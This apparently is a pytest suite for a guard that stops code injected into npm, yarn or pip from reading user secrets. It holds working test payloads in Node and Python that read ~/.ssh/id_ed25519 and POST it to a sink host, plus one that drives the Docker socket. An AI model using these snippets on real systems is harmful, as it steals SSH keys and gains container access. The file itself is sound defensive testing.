"""Code of others inside a package manager: refused what is not the manager's own, and the install goes on."""

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import node_house
from clients import client
from lab.brokers import broker
from lab.daemon import Daemon, as_user, hand_to_user
from lab.demands import demand
from lab.guard import Outcome, guarded, run
from lab.installers import INSTALLERS
from lab.packages import filled
from lab.registry import Registry
from lab.world import World

pytestmark = [pytest.mark.root, pytest.mark.timeout(120, method="thread")]

_HONEST_SOURCE = Path(__file__).parents[1] / "scenarios" / "T-build" / "plain-text-1.1.0"
_NAME = "clean-hands"
# What it got is sent away, and what it could read of the manager's own is told to the test only.
_NODE = """
const fs = require('fs'), os = require('os'), http = require('http')
let loot = 'nothing', own = ''
try { loot = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') } catch (error) { own = error.code + ' ' }
own += fs.readFileSync(os.homedir() + '/.npmrc').length > 0 ? 'its own' : ''
fs.appendFileSync('@RAN@', own + '\\n')
http.request({ host: '@SINK@', port: 8080, method: 'POST', path: '/log' }).on('error', () => {}).end(loot)
"""
_HONEST = "require('fs').appendFileSync('@RAN@', 'its own\\n')\n"
_PYTHON_HONEST = "open('@RAN@', 'a').write('its own\\n')\n"
# Not only at once: under `hooks` a wrapped run needs a moment before it hears of sockets that nobody answers.
_BROKER = """
const fs = require('fs'), net = require('net')
for (const wait of [0, 100, 200, 300, 400]) setTimeout(() => {
  const told = net.connect(require('os').homedir() + '/.docker/run/docker.sock', () => told.write('POST /containers'))
  told.on('data', () => fs.appendFileSync('@RAN@', 'did it\\n')).on('error', () => {})
  told.setTimeout(3000, () => told.destroy())
}, wait)
"""
_PYTHON = """
import contextlib, errno, os, urllib.request
loot, own = b"nothing", ""
try:
    loot = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()
except OSError as error:
    own = errno.errorcode[error.errno] + " "
own += "its own" if open(os.path.expanduser("~/.npmrc")).read() else ""
open("@RAN@", "a").write(own + "\\n")
with contextlib.suppress(OSError):
    urllib.request.urlopen("http://@SINK@:8080/log", loot, timeout=3)
"""


class Yard:
    """A user whose manager loads a file of somebody else's."""

    def __init__(self, world: World, registry: Registry) -> None:
        self.world, self.mine = world, world.project
        self.ran = world.folder / "ran"
        self.registry = registry
        (self.mine / ".npmrc").write_text(f"registry={registry.url}\n")
        registry.add({"name": _NAME, "version": "1.0.0"}, {"work.js": ""})

    def write(self, path: Path, code: str) -> None:
        """Lay the file that the manager is to load."""
        text = filled(code.encode(), self.world.words()).decode()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("@RAN@", str(self.ran)))


@pytest.fixture
def yard(lab: None) -> Iterator[Yard]:
    """A project with a registry of its own."""
    demand(INSTALLERS["npm"].missing() or (None if client("yarn-4") else "yarn could not be fetched once"))
    with World([_HONEST_SOURCE]) as world, Registry() as registry:
        yield Yard(world, registry)


def _npm(yard: Yard, *, steals: bool) -> tuple[list[str], dict[str, str]]:
    loaded = yard.mine / "load.js"
    yard.write(loaded, _NODE if steals else _HONEST)
    command = [str(shutil.which("npm")), "install", "--registry", yard.registry.url, _NAME]
    return command, yard.world.environment() | {"NODE_OPTIONS": f"--require {loaded}"}


def _yarn(yard: Yard, *, steals: bool) -> tuple[list[str], dict[str, str]]:
    code = _NODE if steals else _HONEST
    yard.write(
        yard.mine / "load.cjs", f"{code}\nmodule.exports = {{ name: 'load', factory: () => ({{}}) }}\n"
    )
    (yard.mine / ".yarnrc.yml").write_text("plugins:\n  - load.cjs\n")
    environment = node_house.environment("yarn-4", yard.world.folder, yard.registry.url)
    command = [str(client("yarn-4")), *node_house.KINDS["yarn-4"].add, _NAME]
    return command, environment | yard.world.environment()


def _pip(yard: Yard, *, steals: bool) -> tuple[list[str], dict[str, str]]:
    folder = yard.world.folder / "library"
    yard.write(folder / "sitecustomize.py", _PYTHON if steals else _PYTHON_HONEST)
    # Only of what is guarded: the guard is a Python program itself.
    return ["env", f"PYTHONPATH={folder}", *yard.world.install("plain-text")], yard.world.environment()


_WAYS = {"NODE_OPTIONS": _npm, "plugin": _yarn, "sitecustomize": _pip}


def _rules(findings: list[dict[str, Any]]) -> set[tuple[str, str, str]]:
    return {(found["rule"], found["action"], found["actor"]) for found in findings}


def _go(yard: Yard, way: str, *, steals: bool = True, guard: bool = True) -> Outcome:
    command, environment = _WAYS[way](yard, steals=steals)
    report = yard.world.folder / "report.json" if guard else None
    return run(guarded(command, report) if guard else command, environment, yard.mine, report)


@pytest.mark.parametrize("way", _WAYS)
def test_the_theft_is_real(yard: Yard, way: str) -> None:
    """With the guard off the key is in the sink, sent by the manager itself."""
    done = _go(yard, way, guard=False)

    assert done.status == 0, done.out + done.err
    assert yard.world.leaks() != []


@pytest.mark.parametrize("way", _WAYS)
def test_what_is_not_the_manager_s_own_is_refused(guard: None, yard: Yard, way: str) -> None:
    """The key stays, its own credentials are still read, the install goes on, and the file is named."""
    done = _go(yard, way)

    assert yard.world.leaks() == []
    assert set(yard.ran.read_text().splitlines()) == {"EPERM its own"}
    rules = {found for found in _rules(done.findings) if found[2] != "package"}  # a build inherits PYTHONPATH
    assert rules == {("secrets.mixed", "denied", "mixed"), ("manager.mixed", "audited", "mixed")}
    assert done.status == 3, done.out + done.err  # its own status was 0: the install went on


@pytest.mark.parametrize("way", _WAYS)
def test_an_honest_one_is_only_told(guard: None, yard: Yard, way: str) -> None:
    """The twin: nothing is refused, and there is one thing to say."""
    done = _go(yard, way, steals=False)

    assert (done.status, yard.ran.exists()) == (0, True), done.out + done.err
    assert _rules(done.findings) == {("manager.mixed", "audited", "mixed")}


def _use_broker(yard: Yard, *, guard: bool) -> Outcome:
    command, environment = _npm(yard, steals=True)
    yard.write(yard.mine / "load.js", _BROKER)
    place = Path(environment["HOME"]) / ".docker" / "run"
    place.mkdir(parents=True, exist_ok=True)
    report = yard.world.folder / "report.json"
    with broker(place / "docker.sock"):
        command = guarded(command, report) if guard else command
        return run(command, environment, yard.mine, report if guard else None)


def test_the_broker_would_do_it(yard: Yard) -> None:
    """With the guard off the container engine answers what was loaded into npm."""
    assert _use_broker(yard, guard=False).status == 0
    assert "did it" in yard.ran.read_text()


def test_no_broker_answers_it(guard: None, yard: Yard) -> None:
    """What has come into the manager asks for a container and gets none."""
    done = _use_broker(yard, guard=True)

    assert not yard.ran.exists(), done.out + done.err
    assert ("brokers.mixed", "denied", "mixed") in _rules(done.findings)
    assert done.status == 3, done.out + done.err


def test_a_manager_with_nothing_in_it_keeps_its_rights(guard: None, yard: Yard) -> None:
    """Who loads nothing is no mixed manager: its acts are a manager's from the first that is told."""
    command, environment = _npm(yard, steals=False)
    del environment["NODE_OPTIONS"]
    report = yard.world.folder / "report.json"
    done = run(guarded(command, report), environment, yard.mine, report)

    assert done.status == 0, done.out + done.err
    assert done.findings == []
    assert done.report is not None
    assert {peer["actor"] for peer in done.report["egress"]} == {"manager"}


@pytest.mark.parametrize("way", _WAYS)
def test_the_daemon_finds_it_as_well(guard: None, yard: Yard, way: str) -> None:
    """Nobody wrapped it: the key stays, and the run is told so."""
    command, environment = _WAYS[way](yard, steals=True)
    environment["PATH"] = os.environ["PATH"]
    hand_to_user(yard.world)
    with Daemon(yard.world) as daemon:
        said = [f"{key}={value}" for key, value in environment.items()]
        done = as_user(yard.world, ["env", *said, "sh", "-c", 'cd "$0" && "$@"', str(yard.mine), *command])
        daemon.settled()
        found = daemon.report()["findings"]

    assert done.status == 0, done.out + done.err
    assert yard.world.leaks() == []
    assert ("secrets.mixed", "denied", "mixed") in _rules(found), daemon.log
